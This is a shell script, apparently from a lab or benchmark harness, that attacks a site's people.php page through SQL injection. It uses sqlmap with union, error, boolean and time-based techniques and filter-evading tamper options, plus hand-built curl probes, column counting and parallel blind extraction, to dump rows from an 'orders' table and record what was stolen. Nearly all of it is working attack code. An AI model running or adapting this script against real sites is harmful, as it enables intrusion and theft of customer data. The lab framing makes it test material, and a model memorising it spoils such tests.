# See whether the page with people is open to the injection, then steal.
. /usr/local/lib/lab/inject.sh

sqlmap_() {
	case $TASK in
	union) technique=U ;;
	error) technique=E ;;
	boolean) technique=B ;;
	time) technique=T ;;
	esac
	set -- -u "$site/people.php?name=$USER" -p name --batch --ignore-stdin --disable-coloring --output-dir=/root/sqlmap \
		--dbms=$dbms --technique=$technique --delay="$PAUSE" --retries=1 ${browser:+--user-agent="$browser"}
	case $EVASION in
	comments) set -- "$@" --tamper=space2comment ;;
	case) set -- "$@" --tamper=randomcase ;;
	encode) set -- "$@" --tamper=charencode ;;
	esac
	case $TASK in
	error | boolean) set -- "$@" --threads="$PARALLEL" ;;
	time) set -- "$@" --time-sec="$SECONDS" ;;
	esac
	phase probe
	sqlmap "$@" || true
	ls /root/sqlmap/*/log >/dev/null && grep -q . /root/sqlmap/*/log || return 0
	vulnerable=yes
	phase extract
	set -- "$@" -D $schema -T orders --dump
	if [ "$TASK" = union ]; then
		set -- "$@" -C id,name,amount,text
	else
		set -- "$@" -C id,name --where="id<=$STOLEN"
	fi
	sqlmap "$@" >said
	tail -n 8 said
	# the order is not always the table's
	tail -n +2 /root/sqlmap/*/dump/*/orders.csv | grep . | tr , '\t' | sort -n >rows
	if [ "$TASK" != union ]; then cut -f2 rows >names && mv names rows; fi
}

curl_() {
	phase probe
	case $TASK in
	union | error) ask "$USER'" | grep -q '^500' || return 0 ;;
	boolean | time) if ! holds 1=1 || holds 1=2; then return 0; fi ;;
	esac
	vulnerable=yes
	if [ "$TASK" = union ]; then
		# how many columns there are
		columns=1
		while ask "$USER' ORDER BY $((columns + 1)) -- " | grep -q '^200'; do columns=$((columns + 1)); done
		[ $columns = 2 ]
	fi
	phase extract
	case $TASK in
	union)
		ask "$union"
		sed -n 's:^.*<tr><td>\(.*\)</td><td></td></tr>$:\1:p' answer-0 >rows
		;;
	error)
		for row in $(seq "$STOLEN"); do
			ask "$(error "$row")"
			sed -n 's/.*~\([a-z]*\).*/\1/p' answer-0 >"name-$row"
		done
		cat name-* >rows
		;;
	*)
		seq "$STOLEN" | xargs -P "$PARALLEL" -n 1 sh -eu blind.sh
		for row in $(seq "$STOLEN"); do cat "name-$row"; done >rows
		;;
	esac
}

vulnerable=no
: >rows
"${IMPLEMENTATION}_"
outcome vulnerable=$vulnerable
if [ ! -s rows ]; then
	stolen=none
elif [ "$TASK" = union ]; then
	stolen=$(sort -n rows | sha256sum | cut -d' ' -f1)
else
	stolen=$(paste -sd' ' rows)
fi
outcome stolen="$stolen"
